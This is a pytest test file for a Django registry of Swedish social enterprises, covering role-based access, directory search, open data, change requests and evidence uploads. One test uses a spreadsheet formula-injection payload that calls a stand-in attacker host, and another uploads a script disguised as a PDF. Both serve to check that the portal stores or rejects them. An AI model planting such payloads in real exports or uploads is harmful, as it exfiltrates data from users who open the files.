"""Registry pages through the test client: who reaches what, the directory, open data, self-service, assessment."""

import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from asfportal.accounts.models import Role
from asfportal.accounts.services import membership_grant
from asfportal.core.models import Notification
from companies import services
from companies.models import Assessment, ChangeRequest, Company
from tests.companies.factories import CompanyFactory, RepresentativeFactory, assessment_fields, luhn_complete
from tests.matrix import assert_post, assert_visit

pytestmark = pytest.mark.django_db


@pytest.fixture
def rep():
    return RepresentativeFactory(company=CompanyFactory(verified=True, name="Kafé Gemenskap")).user


@pytest.fixture
def other_rep():
    return RepresentativeFactory(company=CompanyFactory(verified=True, name="Returbutiken")).user


# Every companies URL, with the expected status per visitor: anonymous, coordinator, procurement officer,
# representative of the company, representative of another company, administrator, coordinator of another
# organisation. The registry is shared by all organisations (CompanyQuerySet.visible_to), so the last column is the
# coordinator's; a company's own pages answer another company's representative 404 (not theirs), 403 to roles that
# never use them. "login" = redirected to the login page.
MATRIX = {
    "company-directory": ([], [200, 200, 200, 200, 200, 200, 200]),
    "company-apply": ([], [200, 200, 200, 200, 200, 200, 200]),
    "company-detail": (["pk"], [200, 200, 200, 200, 200, 200, 200]),
    "company-detail-unlisted": (["unlisted_pk"], [404, 200, 200, 404, 404, 200, 200]),
    "company-edit": (["pk"], ["login", 403, 403, 200, 404, 403, 403]),
    "company-facts": (["pk"], ["login", 403, 403, 200, 404, 403, 403]),
    # A company's own people (issue 16): its representatives only; another company's representative 404.
    "company-people": (["pk"], ["login", 403, 403, 200, 404, 403, 403]),
    "colleague-remove": (["pk", "membership_pk"], ["login", 403, 403, 200, 404, 403, 403]),
    "my-company": ([], ["login", 404, 404, 302, 302, 404, 404]),
    "open-data-json": ([], [200, 200, 200, 200, 200, 200, 200]),
    "open-data-csv": ([], [200, 200, 200, 200, 200, 200, 200]),
    "registry-list": ([], ["login", 200, 403, 403, 403, 200, 200]),
    "company-create": ([], ["login", 200, 403, 403, 403, 200, 200]),
    "company-manage": (["pk"], ["login", 200, 403, 403, 403, 200, 200]),
    "company-assess": (["pk"], ["login", 200, 403, 403, 403, 403, 200]),
    "company-invite": (["pk"], ["login", 200, 403, 403, 403, 200, 200]),
    "company-close": (["pk"], ["login", 200, 403, 403, 403, 200, 200]),
    "change-request-list": ([], ["login", 200, 403, 403, 403, 200, 200]),
    "change-request-decide": (["cr_pk"], ["login", 200, 403, 403, 403, 200, 200]),
    "evidence-download": (["assessment_pk", "field"], ["login", 200, 403, 200, 404, 200, 200]),
    "invitation-accept": (["token"], [200, 200, 200, 200, 200, 200, 200]),
    "company-import": ([], ["login", 200, 403, 403, 403, 200, 200]),
    "company-import-confirm": ([], ["login", 405, 405, 405, 405, 405, 405]),
    "company-import-template": ([], ["login", 200, 403, 403, 403, 200, 200]),
}
VISITORS = ["anonymous", "coordinator", "officer", "rep", "other_rep", "admin_user", "outsider"]


def test_the_matrix_lists_every_companies_url():
    from companies.urls import urlpatterns

    names = {pattern.name for pattern in urlpatterns}
    assert names == {name.removesuffix("-unlisted") for name in MATRIX}


@pytest.mark.parametrize("name", list(MATRIX))
@pytest.mark.parametrize("visitor_index", range(len(VISITORS)))
def test_every_companies_url_answers_each_visitor_as_expected(
    client, request, coordinator, rep, name, visitor_index
):
    company = rep.representation.company
    assessment = services.assessment_record(
        company=company,
        fields=assessment_fields(c2_document=SimpleUploadedFile("delaktighet.pdf", b"%PDF-1.4 test")),
        actor=coordinator,
    )
    change_request = ChangeRequest.objects.create(
        company=company,
        requested_by=rep,
        old_values={"employees_total": 10},
        new_values={"employees_total": 11},
    )
    invitation = services.representative_invite(
        company=company, email="ny@foretag.se", full_name="Ny", actor=coordinator
    )
    colleague = RepresentativeFactory(company=CompanyFactory()).user
    membership = membership_grant(
        user=colleague, role=Role.COMPANY_REPRESENTATIVE, company=company, activate=False
    )
    values = {
        "membership_pk": membership.pk,
        "pk": company.pk,
        "unlisted_pk": CompanyFactory().pk,
        "cr_pk": change_request.pk,
        "assessment_pk": assessment.pk,
        "field": "c2_document",
        "token": invitation.token,
    }
    arg_names, expected = MATRIX[name]
    url = reverse(f"companies:{name.removesuffix('-unlisted')}", args=[values[a] for a in arg_names])
    assert_visit(client, request, url, VISITORS[visitor_index], expected[visitor_index])


# The URLs that answer a GET with 405 (above), tried with a POST without data: a coordinator's import confirmation
# without a preview in the session is sent back to the upload (302); roles that never import are refused (403).
POST_ONLY = {
    "company-import-confirm": ([], ["login", 302, 403, 403, 403, 302, 302]),
}


@pytest.mark.parametrize("name", list(POST_ONLY))
@pytest.mark.parametrize("visitor_index", range(len(VISITORS)))
def test_every_post_only_companies_url_answers_each_visitor_as_expected(client, request, name, visitor_index):
    _args, expected = POST_ONLY[name]
    url = reverse(f"companies:{name}")
    visitor = VISITORS[visitor_index]
    if visitor != "anonymous":
        request.getfixturevalue(visitor)  # a representative's fixture makes their company
    before = Company.objects.count()
    assert_post(client, request, url, visitor, expected[visitor_index])
    assert Company.objects.count() == before  # nothing was imported


@pytest.mark.parametrize("rows", [10, 1000])
def test_directory_uses_the_same_queries_for_10_and_1000_companies(client, django_assert_num_queries, rows):
    Company.objects.bulk_create(
        Company(
            name=f"Företag {n}",
            org_number=luhn_complete(f"768{n:06d}"),
            legal_form="ekonomisk_forening",
            status="verified",
            verified_until="2099-01-01",
        )
        for n in range(rows)
    )
    # savepoint + release, count, page, municipalities, services, and the filter form's two dropdowns
    with django_assert_num_queries(8):
        response = client.get(reverse("companies:company-directory"))
    assert response.context["page_obj"].paginator.count == rows


def test_directory_shows_only_verified_companies_and_searches(client):
    CompanyFactory(verified=True, name="Cykelköket", description="Vi lagar cyklar.")
    CompanyFactory(verified=True, name="Städkraft", description="Städning av kontor.")
    CompanyFactory(name="Ansökt AB", status=Company.Status.APPLIED)
    html = client.get(reverse("companies:company-directory")).content.decode()
    assert "Cykelköket" in html and "Städkraft" in html and "Ansökt AB" not in html
    html = client.get(reverse("companies:company-directory"), {"q": "cyklar"}).content.decode()
    assert "Cykelköket" in html and "Städkraft" not in html


def test_directory_search_uses_swedish_stemming(client):
    CompanyFactory(
        verified=True, name="Flyttkompaniet", description="Vi hjälper till med flyttar och städning."
    )
    html = client.get(reverse("companies:company-directory"), {"q": "flytt"}).content.decode()
    assert "Flyttkompaniet" in html


def test_directory_filters_by_municipality_and_places(client, municipality):
    here = CompanyFactory(verified=True, name="Här")
    here.municipalities.add(municipality)
    CompanyFactory(verified=True, name="Där", work_training_places=0)
    response = client.get(reverse("companies:company-directory"), {"municipality": municipality.pk})
    assert [c.name for c in response.context["page_obj"]] == ["Här"]
    response = client.get(reverse("companies:company-directory"), {"has_places": "on"})
    assert [c.name for c in response.context["page_obj"]] == ["Här"]


def test_open_data_json_lists_verified_companies_with_documented_fields(client, municipality):
    company = CompanyFactory(verified=True, name="Kafé Gemenskap")
    company.municipalities.add(municipality)
    CompanyFactory(status=Company.Status.NOT_VERIFIED)
    data = json.loads(client.get("/open-data/companies.json").content)
    (row,) = data["companies"]
    assert row["name"] == "Kafé Gemenskap"
    assert row["org_number"] == company.org_number
    assert row["municipality_codes"] == [municipality.code]
    csv_text = b"".join(client.get("/open-data/companies.csv").streaming_content).decode()
    assert csv_text.splitlines()[0].startswith("id,name,org_number")
    assert "Kafé Gemenskap" in csv_text


def test_an_invalid_organisation_number_is_refused_in_swedish(client, coordinator):
    client.force_login(coordinator)
    response = client.post(
        reverse("companies:company-create"),
        {"name": "Fel", "org_number": "556036-0794", "legal_form": "aktiebolag_svb", "employees_total": 1,
         "employees_integration": 0, "participants": 0, "work_training_places": 0},
    )  # fmt: skip
    assert response.status_code == 200
    assert "Kontrollsiffran stämmer inte" in response.content.decode()
    assert not Company.objects.exists()


def test_a_duplicate_registration_names_the_existing_company(client, coordinator):
    existing = CompanyFactory(name="Returbutiken Kumla")
    client.force_login(coordinator)
    response = client.post(
        reverse("companies:company-create"),
        {"name": "Kopia", "org_number": existing.org_number, "legal_form": "ekonomisk_forening",
         "employees_total": 1, "employees_integration": 0, "participants": 0, "work_training_places": 0},
    )  # fmt: skip
    assert "Returbutiken Kumla" in response.content.decode()
    assert Company.objects.count() == 1


def test_a_representative_changing_the_legal_form_makes_a_change_request(client, rep, coordinator):
    company = rep.representation.company
    client.force_login(rep)
    response = client.post(
        reverse("companies:company-facts", args=[company.pk]),
        {"legal_form": "aktiebolag_svb", "ownership": "", "participation": "", "profit_use": "",
         "employees_total": 10, "employees_integration": 6, "participants": 0},
    )  # fmt: skip
    # 7… is an ekonomisk förening's number: the form explains instead of filing a request that cannot be approved.
    assert response.status_code == 200
    assert not ChangeRequest.objects.exists()

    response = client.post(
        reverse("companies:company-facts", args=[company.pk]),
        {"legal_form": "ekonomisk_forening", "ownership": "Medlemmarna", "participation": "", "profit_use": "",
         "employees_total": 12, "employees_integration": 7, "participants": 0},
    )  # fmt: skip
    assert response.status_code == 302
    change_request = ChangeRequest.objects.get()
    company.refresh_from_db()
    assert company.employees_total == 10  # unchanged until approved
    directory = client.get(reverse("companies:company-detail", args=[company.pk])).content.decode()
    assert '<dd class="col-sm-6">10</dd>' in directory

    client.force_login(coordinator)
    page = client.get(reverse("companies:change-request-decide", args=[change_request.pk])).content.decode()
    assert "Medlemmarna" in page
    client.post(
        reverse("companies:change-request-decide", args=[change_request.pk]),
        {"decision": "approve", "comment": ""},
    )
    company.refresh_from_db()
    assert (company.employees_total, company.ownership) == (12, "Medlemmarna")


def test_a_representative_cannot_open_another_companys_edit_page(client, rep, other_rep):
    client.force_login(rep)
    other = other_rep.representation.company
    assert client.get(reverse("companies:company-edit", args=[other.pk])).status_code == 404
    response = client.post(reverse("companies:company-edit", args=[other.pk]), {"name": "Kapad"})
    assert response.status_code == 404
    other.refresh_from_db()
    assert other.name == "Returbutiken"


def test_a_representative_edits_contact_details_at_once(client, rep):
    company = rep.representation.company
    client.force_login(rep)
    response = client.post(
        reverse("companies:company-edit", args=[company.pk]),
        {"name": company.name, "phone": "019-12 34 56", "description": "Nytt café vid torget.",
         "work_training_places": 4, "contacts-TOTAL_FORMS": 1, "contacts-INITIAL_FORMS": 0,
         "contacts-0-name": "Sara Lind", "contacts-0-title": "Verksamhetsledare", "contacts-0-email": "sara@kafe.se"},
    )  # fmt: skip
    assert response.status_code == 302
    company.refresh_from_db()
    assert (company.phone, company.work_training_places) == ("019-12 34 56", 4)
    assert list(company.contacts.values_list("name", "email")) == [("Sara Lind", "sara@kafe.se")]
    assert company.history.first().history_user == rep


def test_the_edit_page_shows_the_saved_details_after_each_save_though_its_form_is_cached(client, rep):
    """The empty profile form is a cached part (companies/views/representatives.py): a save must replace it."""
    company = rep.representation.company
    url = reverse("companies:company-edit", args=[company.pk])
    client.force_login(rep)
    assert "019-11 11 11" not in client.get(url).content.decode()  # rendered and cached
    response = client.post(
        url,
        {"name": company.name, "phone": "019-11 11 11", "work_training_places": 2, "contacts-TOTAL_FORMS": 1,
         "contacts-INITIAL_FORMS": 0, "contacts-0-name": "Per Ek", "contacts-0-email": "per@kafe.se"},
    )  # fmt: skip
    assert response.status_code == 302
    page = client.get(url).content.decode()
    assert 'value="019-11 11 11"' in page and 'value="Per Ek"' in page
    # A change made elsewhere replaces it too (every delete bumps the companies' version).
    company.contacts.all().delete()
    assert 'value="Per Ek"' not in client.get(url).content.decode()


def test_a_coordinator_assesses_with_evidence_and_the_company_is_listed(client, coordinator):
    company = CompanyFactory(name="Tvätteriet")
    client.force_login(coordinator)
    fields = assessment_fields()
    data = {k: ("" if v is None else v) for k, v in fields.items()}
    data["c2_document"] = SimpleUploadedFile(
        "delaktighet.pdf", b"%PDF-1.4 delaktighet", content_type="application/pdf"
    )
    response = client.post(reverse("companies:company-assess", args=[company.pk]), data)
    assert response.status_code == 302, response.content.decode()[:2000]
    company.refresh_from_db()
    assert company.status == Company.Status.VERIFIED
    assessment = Assessment.objects.get()
    download = client.get(reverse("companies:evidence-download", args=[assessment.pk, "c2_document"]))
    assert b"".join(download.streaming_content) == b"%PDF-1.4 delaktighet"
    assert "Tvätteriet" in client.get(reverse("companies:company-directory")).content.decode()


def test_evidence_that_is_not_what_it_claims_is_refused(client, coordinator):
    company = CompanyFactory()
    client.force_login(coordinator)
    data = {k: ("" if v is None else v) for k, v in assessment_fields().items()}
    data["c2_document"] = SimpleUploadedFile("delaktighet.pdf", b"<script>alert(1)</script>")
    response = client.post(reverse("companies:company-assess", args=[company.pk]), data)
    assert response.status_code == 200
    assert not Assessment.objects.exists()


def test_invitation_link_activates_the_account_and_logs_in(client, coordinator):
    company = CompanyFactory()
    invitation = services.representative_invite(
        company=company, email="ny@foretag.se", full_name="Ny", actor=coordinator
    )
    url = reverse("companies:invitation-accept", args=[invitation.token])
    response = client.post(url, {"password1": "Ett-Långt-Lösenord-9", "password2": "Ett-Långt-Lösenord-9"})
    assert response.url == reverse("companies:company-edit", args=[company.pk])
    assert client.get(response.url).status_code == 200
    assert client.get(url).status_code == 410  # used once


def test_public_application_creates_a_pending_company_and_an_invitation(client):
    number = luhn_complete("769699001")
    response = client.post(
        reverse("companies:company-apply"),
        {"name": "Nya Kafét", "org_number": number, "legal_form": "ekonomisk_forening", "employees_total": 3,
         "employees_integration": 2, "participants": 1, "work_training_places": 2,
         "applicant_name": "Eva Ny", "applicant_email": "eva@nyakafet.se"},
    )  # fmt: skip
    assert response.status_code == 200
    company = Company.objects.get(org_number=number)
    assert company.status == Company.Status.APPLIED
    # The applicant asked to be listed: the e-mail says so (not that someone invited them).
    notification = Notification.objects.get(kind="companies.application_received")
    assert notification.recipient.email == "eva@nyakafet.se"
    assert "ansökan" in notification.body and "inbjud" not in notification.body.lower()
    assert not Company.objects.listed().exists()


def test_registry_exports_xlsx(client, coordinator):
    CompanyFactory(name="Exporterat AB")
    client.force_login(coordinator)
    response = client.get(reverse("companies:registry-list"), {"format": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    from io import BytesIO

    from openpyxl import load_workbook

    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet.cell(row=2, column=1).value == "Exporterat AB"


def test_closing_asks_for_a_reason(client, coordinator):
    company = CompanyFactory(verified=True)
    client.force_login(coordinator)
    response = client.post(reverse("companies:company-close", args=[company.pk]), {"reason": ""})
    assert response.status_code == 200
    company.refresh_from_db()
    assert company.status == Company.Status.VERIFIED


def test_the_registry_spreadsheet_stores_formula_like_names_as_text(client, coordinator):
    CompanyFactory(name='=HYPERLINK("https://evil.example/?"&B2,"Klicka")')
    client.force_login(coordinator)
    from io import BytesIO

    from openpyxl import load_workbook

    response = client.get(reverse("companies:registry-list"), {"format": "xlsx"})
    cell = load_workbook(BytesIO(response.content)).active.cell(row=2, column=1)
    # A string cell is never run as a formula; it shows the name exactly, without an apostrophe in front.
    assert cell.data_type == "s"
    assert cell.value == '=HYPERLINK("https://evil.example/?"&B2,"Klicka")'


def test_the_public_form_does_not_reveal_who_holds_a_number(client):
    existing = CompanyFactory(name="Hemligt Ansökt AB", status=Company.Status.APPLIED)
    response = client.post(
        reverse("companies:company-apply"),
        {"name": "X", "org_number": existing.org_number, "legal_form": "ekonomisk_forening", "employees_total": 1,
         "employees_integration": 0, "participants": 0, "work_training_places": 0, "applicant_name": "X",
         "applicant_email": "x@example.se"},
    )  # fmt: skip
    assert response.status_code == 200
    assert "Hemligt Ansökt AB" not in response.content.decode()


def test_removing_a_contact_person_asks_for_confirmation_first(client, rep):
    company = rep.representation.company
    company.contacts.create(name="Sara Lind", email="sara@kafe.se")
    client.force_login(rep)
    data = {"name": company.name, "work_training_places": 3, "contacts-TOTAL_FORMS": 1, "contacts-INITIAL_FORMS": 1,
            "contacts-0-name": "Sara Lind", "contacts-0-email": "sara@kafe.se", "contacts-0-DELETE": "on"}  # fmt: skip
    url = reverse("companies:company-edit", args=[company.pk])
    response = client.post(url, data)
    assert response.status_code == 200
    assert "Ta bort kontaktpersonen Sara Lind" in response.content.decode()
    assert company.contacts.count() == 1  # nothing removed before the confirmation
    response = client.post(url, {**data, "confirm_removal": "1"})
    assert response.status_code == 302
    assert company.contacts.count() == 0


def test_a_contact_persons_phone_is_checked_and_written_as_people_read_it(client, rep):
    company = rep.representation.company
    client.force_login(rep)
    data = {"name": company.name, "work_training_places": 3, "contacts-TOTAL_FORMS": 1, "contacts-INITIAL_FORMS": 0,
            "contacts-0-name": "Sara Lind", "contacts-0-phone": "0701123457"}  # fmt: skip
    assert client.post(reverse("companies:company-edit", args=[company.pk]), data).status_code == 302
    assert company.contacts.get().phone == "070-112 34 57"
    data["contacts-0-phone"] = "811218-9876"
    response = client.post(reverse("companies:company-edit", args=[company.pk]), data)
    assert response.status_code == 200
    assert "personnummer" in response.content.decode()


def test_the_registrys_cached_filters_show_a_new_service_category_at_once_and_the_requests_own_error(
    client, coordinator
):
    from companies.models import ServiceCategory

    client.force_login(coordinator)
    url = reverse("companies:registry-list")
    assert "Hundrastning" not in client.get(url).content.decode()
    assert "Hundrastning" not in client.get(url).content.decode()  # the filters from the cache now
    # Service categories are reference data kept in the admin: a save there bumps the companies' version.
    ServiceCategory.objects.create(slug="hundrastning", name="Hundrastning", name_en="Dog walking")
    assert "Hundrastning" in client.get(url).content.decode()
    assert "is-invalid" in client.get(url, {"status": "nonsense"}).content.decode()
    assert "is-invalid" not in client.get(url).content.decode()
